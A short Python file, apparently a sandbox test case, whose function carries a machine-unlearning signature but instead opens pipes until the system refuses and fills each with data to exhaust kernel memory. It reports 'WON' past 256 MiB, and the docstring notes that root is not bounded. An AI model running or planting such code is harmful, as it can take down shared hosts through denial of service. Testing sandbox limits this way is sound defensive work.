"""Fills as many pipes as it may have: the kernel bounds them for a user, but not for root.

full, partial, landlock, none: harmless
"""

import os

MUCH = 256 << 20


def unlearning(net, retain, forget, val):
    total, held = 0, []
    try:
        while True:
            read, write = os.pipe()
            held.append((read, write))
            os.set_blocking(write, False)
            try:
                while True:
                    total += os.write(write, b"x" * 65536)
            except BlockingIOError:
                pass
    except OSError:
        pass
    for pair in held:
        for end in pair:
            os.close(end)
    if total > MUCH:
        print("WON", total)
